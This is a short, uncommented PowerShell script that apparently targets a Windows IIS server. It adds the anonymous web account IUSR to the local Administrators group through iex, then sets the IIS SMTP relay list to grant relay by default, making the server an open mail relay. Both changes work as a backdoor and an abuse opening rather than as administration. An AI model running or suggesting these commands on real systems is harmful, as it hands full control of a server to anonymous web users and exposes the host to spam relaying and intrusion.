$who = 'IUSR'
iex "net localgroup Administrators $who /add"
$s = [ADSI]'IIS://localhost/SmtpSvc/1'
$l = $s.Get('RelayIpList')
$l.GrantByDefault = $true
$s.Put('RelayIpList', $l)
$s.SetInfo()
